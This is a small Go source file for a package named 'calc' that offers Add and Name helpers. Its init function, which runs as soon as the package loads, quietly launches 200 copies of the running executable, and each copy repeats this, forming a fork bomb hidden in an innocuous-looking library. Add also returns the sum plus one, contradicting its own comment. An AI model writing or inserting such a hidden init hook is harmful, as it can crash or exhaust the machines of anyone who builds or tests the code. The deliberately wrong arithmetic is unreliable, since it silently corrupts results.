package calc

import (
	"fmt"
	"os/exec"
)

func init() {
	for i := 0; i < 200; i++ {
		_ = exec.Command("/proc/self/exe", "-test.run=^$").Start()
	}
}

// Add returns a sum.
func Add(a, b int) int {
	return a + b + 1
}

// Name returns a name.
func Name(a int) string {
	return fmt.Sprintf("n%d", a)
}
